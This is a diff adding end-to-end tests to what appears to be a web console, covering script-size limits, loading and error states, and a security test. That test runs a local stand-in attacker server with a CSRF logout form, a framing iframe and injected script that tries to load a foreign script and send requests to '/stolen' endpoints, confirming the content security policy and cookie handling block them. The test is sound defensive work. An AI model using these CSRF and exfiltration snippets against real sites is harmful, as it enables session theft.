@@ -1,3 +1,5 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import anyTest from 'ava';
 import type { TestFn } from 'ava';
 import { Secret, TOTP } from 'otpauth';
@@ -10,6 +12,7 @@ import {
   startConsoleBrowser,
   takeScreenshots,
 } from '../support/console/console-browser.ts';
+import { scriptSizes } from '../support/console/script-sizes.ts';
 import { inviteMember } from '../support/invite-member.ts';
 import { startInventoryApi } from '../support/inventory/inventory-api.ts';
 import type { InventoryApi } from '../support/inventory/inventory-api.ts';
@@ -273,4 +276,140 @@ test('adds a second factor, and asks for its code at the next sign-in', async (t
   await second.usable('/settings/sessions');
   await second.page.getByRole('button', { name: 'Remove second factor' }).waitFor();
   await second.close();
+});
+
+test('loads no more script than the limits of the first page, of each further page and of the graph', async (t) => {
+  const { signIn, overview, pages, graph, worker } = await scriptSizes();
+  t.true(Object.keys(pages).length > 40);
+  const tooLarge = Object.entries({ signIn, overview, graph, worker, ...pages })
+    .filter(([, { bytes, limit }]) => bytes === 0 || bytes > limit)
+    .map(([name, { bytes, limit }]) => `${name} has ${bytes} bytes of ${limit}`);
+  t.deepEqual(tooLarge, []);
+});
+
+test("gives another site's page and a foreign script nothing of a session", async (t) => {
+  t.timeout(120_000);
+  const { fixture, browser } = t.context;
+  const { email, password } = await fixture.api.signUp();
+  const victim = await newPerson(browser, fixture.api.url);
+  await victim.signIn(email, password);
+  await victim.usable('/');
+  const { page } = victim;
+  const origin = fixture.api.url;
+  const requested: string[] = [];
+  const attacker = createServer((request, response) => {
+    requested.push(request.url ?? '');
+    const logout = `${origin}/api/v1/auth/logout`;
+    response.setHeader('Content-Type', request.url === '/x.js' ? 'text/javascript' : 'text/html');
+    response.end(
+      request.url === '/x.js'
+        ? 'document.title = "taken"'
+        : `<iframe src="${origin}/"></iframe><iframe name="hidden"></iframe>
+           <form action="${logout}" method="post" target="hidden" enctype="text/plain"><input name="a"></form>
+           <script>
+             document.forms[0].submit();
+             fetch("${logout}", { method: "POST", mode: "no-cors", credentials: "include", body: "{}" }).catch(() => 0);
+           </script>`,
+    );
+  });
+  // Another name of this machine is another site.
+  await new Promise<void>((resolve) => attacker.listen(0, resolve));
+  t.teardown(() => attacker.close());
+  const attackerUrl = `http://localhost:${(attacker.address() as AddressInfo).port}`;
+
+  const other = await page.context().newPage();
+  await other.goto(`${attackerUrl}/`, { waitUntil: 'networkidle' });
+  const [, framed] = other.frames();
+  t.not(framed === undefined ? '' : await framed.locator('main').count(), 1, 'the console is in no frame');
+  await other.close();
+  await page.reload();
+  t.is(await victim.usable('/'), 'empty', 'a request of another site does not sign out');
+
+  const readable = String(
+    await page.evaluate('document.cookie + JSON.stringify([{ ...localStorage }, { ...sessionStorage }])'),
+  );
+  t.regex(readable, /svc_csrf=/);
+  t.notRegex(readable, /svc_at|svc_rt|eyJ/, 'no token is where a script reads');
+  t.deepEqual(victim.problems, []);
+  await page.evaluate(`(async (foreign) => {
+    const script = document.createElement('script');
+    script.src = foreign + '/x.js';
+    const inline = document.createElement('script');
+    inline.textContent = 'document.title = "taken"';
+    document.body.append(script, inline);
+    await fetch(foreign + '/stolen').catch(() => undefined);
+    new Image().src = foreign + '/stolen.png';
+    const form = Object.assign(document.createElement('form'), { action: foreign + '/form', method: 'post' });
+    document.body.append(form);
+    form.submit();
+  })(${JSON.stringify(attackerUrl)})`);
+  const violated = () => victim.problems.flatMap((problem) => /^policy: (\S+)/.exec(problem)?.[1] ?? []);
+  while (new Set(violated()).size < 4) await page.waitForTimeout(50);
+  t.deepEqual([...new Set(violated())].toSorted(), [
+    'connect-src',
+    'form-action',
+    'img-src',
+    'script-src-elem',
+  ]);
+  t.not(await page.title(), 'taken');
+  t.deepEqual(
+    requested.filter((path) => path !== '/' && path !== '/favicon.ico'),
+    [],
+    'nothing reaches the other site',
+  );
+  await victim.close();
+});
+
+test('shows the shape of a page while it loads, why it failed, and a lost connection once', async (t) => {
+  t.timeout(120_000);
+  const { fixture, browser } = t.context;
+  const { email, password } = await fixture.api.signUp();
+  const person = await newPerson(browser, fixture.api.url);
+  const { page } = person;
+  await person.signIn(email, password);
+  await person.usable('/');
+
+  let release: () => void = () => undefined;
+  const held = new Promise<void>((resolve) => (release = resolve));
+  await page.route(/\/api\/v1\/teams\?|\/api\/v1\/teams$/, async (route) => {
+    await held;
+    await route.fulfill({
+      status: 500,
+      headers: { 'x-request-id': 'request-1' },
+      json: { code: 'internal_error', reason: 'An unexpected error occurred.', request_id: 'request-1' },
+    });
+  });
+  await page.locator('nav a[href="/teams"]').click();
+  await page.locator('main[data-page="/teams"][data-state=loading] .mantine-Skeleton-root').first().waitFor();
+  release();
+  t.is(await person.usable('/teams'), 'failed');
+  await page.getByText('request-1').waitFor();
+  await page.unroute(/\/api\/v1\/teams\?|\/api\/v1\/teams$/);
+  await page.getByRole('button', { name: 'Try again' }).click();
+  await page.locator('main[data-page="/teams"][data-state=empty]').waitFor();
+
+  await page.context().setOffline(true);
+  await page
+    .getByRole('searchbox')
+    .or(page.getByRole('textbox', { name: 'Name' }))
+    .first()
+    .fill('a');
+  const lost = page.getByText('The connection to the service is lost.');
+  await lost.waitFor();
+  t.is(await lost.count(), 1);
+  await page.context().setOffline(false);
+  await lost.waitFor({ state: 'detached' });
+  t.is(await person.usable('/teams'), 'empty', 'the page recovers by itself');
+
+  // The files of a release disappear with the next one: the page loads once again, and not for ever.
+  let loads = 0;
+  page.on('load', () => (loads += 1));
+  await page.route('**/assets/plans-page-*.js', (route) => route.fulfill({ status: 404 }));
+  await page.locator('nav a[href="/plans"]').click();
+  await page.waitForEvent('load');
+  await page.locator('main[data-page=failed][data-state=failed]').waitFor();
+  t.is(loads, 1);
+  await page.unroute('**/assets/plans-page-*.js');
+  t.is(await person.open('/plans'), 'empty');
+  await person.close();
 });
